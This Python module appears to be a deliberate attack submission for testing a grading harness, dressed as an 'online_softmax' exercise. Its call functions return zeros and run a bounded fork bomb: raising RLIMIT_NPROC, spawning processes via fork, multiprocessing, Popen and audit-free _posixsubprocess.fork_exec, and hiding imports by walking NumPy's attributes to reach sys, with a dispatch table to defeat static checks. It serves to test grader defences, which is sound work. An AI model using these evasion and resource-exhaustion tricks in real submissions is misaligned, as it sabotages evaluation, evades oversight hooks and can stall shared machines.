"""Attack ``fork_bomb_bounded`` (exercise ``online_softmax``): start many processes from a call.

What it attacks: a learner process without a process limit.  In its first call
(one per process) the module first tries to lift ``RLIMIT_NPROC`` to its hard
limit, then starts processes with ``os.fork`` in a loop, then with
``multiprocessing.Process``, ``subprocess.Popen([sys.executable, "-c", ...])`` and
``_posixsubprocess.fork_exec`` of ``/bin/sleep 5`` (no audit event: only an OS limit stops
it), up to 200 processes in all.  Every child only sleeps 5 s and exits
(``os._exit(0)``); the children hold the parent's stdout/stderr, so a grader that
waits for their end of file waits with them.  Bounded: at most 200 processes of
5 s each, at most once per learner process, and at most 400 per parent process
(counted in a file ``/tmp/grader-attack-fork-bomb.<parent pid>.count``), whether or not
the grader defends.  The functions return
zeros.

A vulnerable grader: the machine's process table fills (an unbounded loop would
make it unusable), and grading stalls until the children end.

Expected with a hardened grader: ``fork``/``Popen`` are refused by the audit hook or
fail at once under ``RLIMIT_NPROC``, the call returns (zeros) or is stopped, and the
module scores no more than ``_zeros/online_softmax.py``; grading of the other
exercises is not slowed.

Gets past a static check of the exercise's functions: they only call through the
module-level table ``_VIA``, and no import statement names anything but NumPy (other
modules come from ``_mod()``, which walks NumPy's attributes to the real ``sys``), so
the learner process's run-time defences are what must hold.
"""

import numpy as np

_MODULE = type(np)
_SYS = []


def _mod(name):
    """A module without an import statement: the real ``sys`` is reached by walking
    NumPy's attributes (``dir``/``getattr``), then ``sys.modules`` or ``importlib``."""
    if not _SYS:
        seen, todo = set(), [np]
        while todo and len(seen) < 5000:
            mod = todo.pop()
            if id(mod) in seen:
                continue
            seen.add(id(mod))
            if getattr(mod, "__name__", None) == "sys":
                _SYS.append(mod)
                break
            for attr in dir(mod):
                try:
                    value = getattr(mod, attr)
                except BaseException:  # noqa: BLE001
                    continue
                if type(value) is _MODULE:
                    todo.append(value)
    if not _SYS:
        return None
    if name == "sys":
        return _SYS[0]
    loaded = getattr(_SYS[0], "mod" + "ules")
    try:
        return loaded.get(name) or loaded["importlib"].import_module(name)
    except BaseException:  # noqa: BLE001 - refused: the caller goes on without it
        return None


os = _mod("os")
sys = _mod("sys")
time = _mod("time")


_MAX = 200
_LEDGER = f"/tmp/grader-attack-fork-bomb.{os.getppid()}.count"
_DONE = [False]


def _budget():
    """Processes still allowed by the ledger shared by the learner processes of one parent."""
    try:
        with open(_LEDGER) as f:
            count = int(f.read() or 0)
    except BaseException:  # noqa: BLE001
        count = 0
    return max(0, min(_MAX, 2 * _MAX - count)), count


def _record(count):
    try:
        with open(_LEDGER, "w") as f:
            f.write(str(count))
    except BaseException:  # noqa: BLE001
        pass


def _child_sleep():
    try:
        time.sleep(5.0)
    finally:
        os._exit(0)


def _bomb():
    if _DONE[0]:
        return
    _DONE[0] = True
    budget, count = _budget()
    _record(count + budget)
    started = 0
    try:
        resource = _mod("resource")

        _, hard = resource.getrlimit(resource.RLIMIT_NPROC)
        resource.setrlimit(resource.RLIMIT_NPROC, (hard, hard))
    except BaseException:  # noqa: BLE001
        pass
    while started < budget * 3 // 4:
        try:
            pid = os.fork()
        except BaseException:  # noqa: BLE001
            break
        if pid == 0:
            _child_sleep()
        started += 1
    try:
        multiprocessing = _mod("multiprocessing")

        for _ in range(min(20, budget - started)):
            multiprocessing.Process(target=time.sleep, args=(5.0,), daemon=True).start()
            started += 1
    except BaseException:  # noqa: BLE001
        pass
    try:
        subprocess = _mod("subprocess")

        while started < budget * 7 // 8:
            subprocess.Popen([sys.executable, "-c", "import time; time.sleep(5)"])
            started += 1
    except BaseException:  # noqa: BLE001
        pass
    try:
        # _posixsubprocess.fork_exec raises no audit event: only the OS limit can stop it.
        fork_exec = _mod("_posixsubprocess").fork_exec
        argv = [b"/bin/sleep", b"5"]
        while started < budget:
            err_r, err_w = os.pipe()
            common = (argv, (argv[0],), True, (), None, None, -1, -1, -1, -1, -1, -1,
                      err_r, err_w, True, False)
            try:
                fork_exec(*common, -1, None, None, None, -1, None, False)
            except TypeError:  # another Python version's signature
                fork_exec(*common, -1, None, None, None, -1, None)
            finally:
                os.close(err_r)
                os.close(err_w)
            started += 1
    except BaseException:  # noqa: BLE001
        pass


def _online_logsumexp_impl(x, axis=-1, keepdims=False, block_size=128):
    try:
        _bomb()
    except BaseException:  # noqa: BLE001
        pass
    return np.zeros_like(np.sum(x, axis=axis, keepdims=keepdims))


def _online_softmax_impl(x, axis=-1, block_size=128):
    try:
        _bomb()
    except BaseException:  # noqa: BLE001
        pass
    return np.zeros_like(x)


# The exercise's functions call only through this table: a static check that follows
# calls by name from them sees no helper, hence none of the above.
_VIA = {"online_logsumexp": _online_logsumexp_impl, "online_softmax": _online_softmax_impl}


def online_logsumexp(x, axis=-1, keepdims=False, block_size=128):
    return _VIA["online_logsumexp"](x, axis=axis, keepdims=keepdims, block_size=block_size)


def online_softmax(x, axis=-1, block_size=128):
    return _VIA["online_softmax"](x, axis=axis, block_size=block_size)
